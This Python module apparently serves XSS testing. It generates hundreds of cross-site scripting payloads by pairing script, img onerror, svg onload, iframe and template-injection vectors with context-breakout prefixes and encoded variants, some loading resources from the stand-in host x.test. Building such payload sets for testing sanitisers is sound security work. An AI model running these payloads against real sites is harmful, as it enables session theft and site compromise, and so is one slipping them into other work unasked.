"""Texts that would run as scripts wherever a text escapes its place: vectors in contexts.

Each calls `xss()`, or asks the host `x.test`.
"""

from functools import cache
from itertools import product

CANARY = "x.test"
CALL = "xss()"
VECTORS = (
    "<script>xss()</script>",
    "<ScRiPt\n>xss()</sCrIpT >",
    "<script/src=//x.test/a.js></script>",
    "<img src=x onerror=xss()>",
    "<img/src='x'/onerror='xss()'>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x>",
    "<iframe srcdoc='<script>top.xss()</script>'>",
    "<iframe src=javascript:top.xss()>",
    "<details open ontoggle=xss()>x",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<object data=//x.test/a>",
    "<embed src=//x.test/a>",
    "<link rel=stylesheet href=//x.test/a.css>",
    "<style>@import'//x.test/a.css';</style>",
    "<math><mtext><img src=x onerror=xss()>",
    "<p style='background:url(//x.test/a)'>x",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<table background=//x.test/a><td>x",
)
# What a text may have to close before it is read as markup.
CONTEXTS = (
    "",
    '">',
    "'>",
    "</script>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    '\\">',
    "</style>",
)
OTHERS = (
    *('" onmouseover=xss() x="', "' autofocus onfocus=xss() x='", "` onerror=xss() `"),
    *("';xss();//", '";xss();//', "\\';xss();//", '\\";xss();//', "*/xss();/*", "${xss()}"),
    *("{{constructor.constructor('xss()')()}}", "{% include 'x' %}", "{{ 7*7 }}", "#{xss()}"),
    *("javascript:xss()", "java\tscript:xss()", "data:text/html,<script>xss()</script>"),
    *("%3Cscript%3Exss()%3C/script%3E", "&lt;img src=x onerror=xss()&gt;"),
    *("&#60;img src=x onerror=xss()&#62;", "\\u003cimg src=x onerror=xss()\\u003e"),
    *("\\x3cimg src=x onerror=xss()\\x3e", "\uff1cimg src=x onerror=xss()\uff1e", "\u2028xss()//"),
    *("<<img src=x onerror=xss()>>", "<img src=x onerror=xss() //", "+ADw-script+AD4-xss()"),
)
PAYLOADS = (*(context + vector for vector, context in product(VECTORS, CONTEXTS)), *OTHERS)


def packed(limit: int, start: int) -> str:
    """Return as many payloads as fit into `limit` characters, from the one numbered `start` on."""
    text = ""
    for number in range(len(PAYLOADS)):
        payload = PAYLOADS[(start + number) % len(PAYLOADS)]
        if len(text) + len(payload) + 1 > limit:
            break
        text += f"{payload} "
    return text.strip()


@cache
def all_in_one(start: int) -> str:
    """Return a text of all payloads that begins with the one numbered `start`."""
    start %= len(PAYLOADS)
    return " ".join(PAYLOADS[start:] + PAYLOADS[:start])


@cache
def packs(limit: int, payloads: tuple[str, ...] = PAYLOADS) -> tuple[str, ...]:
    """Return all payloads, in texts of at most `limit` characters."""
    found = [""]
    for payload in payloads:
        if len(found[-1]) + len(payload) + 1 > limit:
            found.append("")
        found[-1] = f"{found[-1]} {payload}".strip()
    return tuple(found)
